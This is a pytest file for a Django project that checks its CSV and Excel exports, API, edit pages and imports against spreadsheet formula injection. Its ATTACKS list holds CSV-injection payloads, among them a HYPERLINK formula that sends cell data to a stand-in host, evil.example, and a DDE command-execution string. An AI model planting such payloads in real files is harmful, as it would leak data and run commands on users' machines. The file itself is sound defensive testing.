"""Downloads are inert in a spreadsheet: no text cell of an Excel export is a formula, no text
cell of a CSV export begins with what a spreadsheet runs, and names that would be formulas or
hold control characters are refused on the pages, in imports and through the API."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from footprint.api.tokens import create_token
from footprint.core.exports import csv_string, xlsx_bytes
from footprint.engagement import services as engagement
from footprint.engagement.models import Consultation
from footprint.finance import services as finance
from footprint.finance.models import FinancialPlan
from footprint.partnership.models import Organisation

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&D3, "Click")',
    "=1+2+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '+HYPERLINK("http://evil.example")',
    "-2+3",
    "\t=1+2",
    "\r=1+2",
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_neutralises_every_formula_start_but_keeps_numbers_numbers():
    text = csv_string(
        ["Name", "Figure"], [[a, -12] for a in ATTACKS] + [["Trust A", Decimal("-1.5")]]
    )
    rows = read_csv(text)
    assert [r[0] for r in rows[1:-1]] == ["'" + a for a in ATTACKS]
    assert {r[1] for r in rows[1:-1]} == {"-12"}  # a genuine negative number stays a number
    assert rows[-1] == ["Trust A", "-1.5"]


def formulas_in(data: bytes) -> list[str]:
    """The formula elements of every sheet of a workbook, read from its XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)
        ]


def test_excel_writes_every_text_cell_as_text():
    data = xlsx_bytes(["Name", "Figure"], [[a, -12] for a in ATTACKS] + [["Bell\x07", 3]])
    assert formulas_in(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    cells = list(sheet.iter_rows(min_row=2))
    # XML reads a carriage return back as a line feed
    assert [r[0].value for r in cells[: len(ATTACKS)]] == [a.replace("\r", "\n") for a in ATTACKS]
    assert {r[0].data_type for r in cells} == {"s"}
    assert {r[1].value for r in cells[: len(ATTACKS)]} == {-12}
    assert cells[-1][0].value == "Bell"  # a control character a workbook cannot hold is dropped


@pytest.mark.parametrize("name", [ATTACKS[0], "@SUM(A1)", "+1", "-1", "Trust\tA", "Trust\x00A"])
def test_the_api_refuses_a_name_a_spreadsheet_would_run(client, cast, name):
    _, token = create_token(user=cast["editor_a"], name="t")
    response = client.patch(
        "/api/v1/organisations/RA1",
        {"name": name},
        content_type="application/json",
        headers={"Authorization": f"Bearer {token}"},
    )
    assert response.status_code in (400, 422)
    assert Organisation.objects.get(ods_code="RA1").name == "Trust A Hospitals"


def test_the_edit_page_refuses_a_formula_name_and_says_why(client_for, footprint):
    client = client_for("editor_a")
    edit = reverse("partnership:organisation_edit", args=["RA1"])
    response = client.post(edit, {"name": ATTACKS[0], "postcode": "", "website": ""})
    body = response.content.decode()
    assert response.status_code == 200
    assert "Start the name with a letter or a digit, not =, +, - or @" in body
    assert Organisation.objects.get(ods_code="RA1").name == "Trust A Hospitals"


def test_the_programme_office_positions_workbook_holds_no_formula(client_for, footprint, cast):
    """A name written before names were checked (straight into the database) still reaches
    the workbook only as text, beside every year's figures."""
    from tests.integration.test_finance import figures

    Organisation.objects.create(ods_code="QA1", name="Test ICB", kind="commissioner")
    finance.save_plan(organisation=footprint["trust_a"], figures=figures(2026), by=cast["pmo"])
    Organisation.objects.filter(ods_code="RA1").update(name=ATTACKS[0])
    assert FinancialPlan.objects.count() == 1
    response = client_for("pmo").get(reverse("finance:export", args=["xlsx"]))
    assert formulas_in(response.content) == []
    sheet = load_workbook(io.BytesIO(response.content))["Positions"]
    row = next(sheet.iter_rows(min_row=2))
    assert row[2].value == ATTACKS[0] and row[2].data_type == "s"
    csv_rows = read_csv(
        client_for("pmo").get(reverse("finance:export", args=["csv"])).content.decode("utf-8-sig")
    )
    assert csv_rows[1][2] == "'" + ATTACKS[0]
    template = client_for("pmo").get(reverse("finance:template", args=["RA1"]))
    assert formulas_in(template.content) == []
    assert load_workbook(io.BytesIO(template.content))["Plan"]["C1"].value == ATTACKS[0]


def test_the_public_consultation_report_csv_is_inert(client_for, cast):
    """Anonymous participants write statements; the published report's CSV shows them as
    text."""
    cache.clear()
    today = timezone.localdate()
    c = Consultation.objects.create(
        title="Evening GP appointments",
        slug="evening-gp",
        summary="Should practices open later?",
        opens_on=today - dt.timedelta(days=1),
        closes_on=today + dt.timedelta(days=30),
        retention_until=today + dt.timedelta(days=90),
    )
    for text in ATTACKS[1:4]:
        engagement.add_partnership_statement(consultation=c, text=text, by=cast["pmo"])
    engagement.store_opinion_groups(consultation=c, by=cast["pmo"])
    Consultation.objects.filter(pk=c.pk).update(closes_on=today - dt.timedelta(days=1))
    c.refresh_from_db()
    engagement.publish_report(consultation=c, by=cast["pmo"])
    response = client_for("public").get(
        reverse("engagement:consultation_report_csv", args=[c.slug])
    )
    rows = read_csv(response.content.decode("utf-8-sig"))
    assert sorted(r[0] for r in rows[1:]) == sorted("'" + a for a in ATTACKS[1:4])


def test_an_import_refuses_a_formula_name_naming_its_row(cast, footprint):
    from footprint.core.imports import ImportRejected
    from footprint.partnership import services as partnership
    from footprint.partnership.importers import OrganisationRow

    rows = [
        OrganisationRow(2, "RC1", "Trust C", "acute_trust", True, ""),
        OrganisationRow(3, "RD1", "@SUM(A1:A9)", "acute_trust", True, ""),
    ]
    with pytest.raises(ImportRejected) as refused:
        partnership.import_organisations(rows=rows, filename="orgs.csv", by=cast["pmo"])
    assert refused.value.as_lines() == [
        "orgs.csv, row 3, column 'name': Start the name with a letter or a digit, not =, +, - or @"
    ]
    assert not Organisation.objects.filter(ods_code__in=["RC1", "RD1"]).exists()
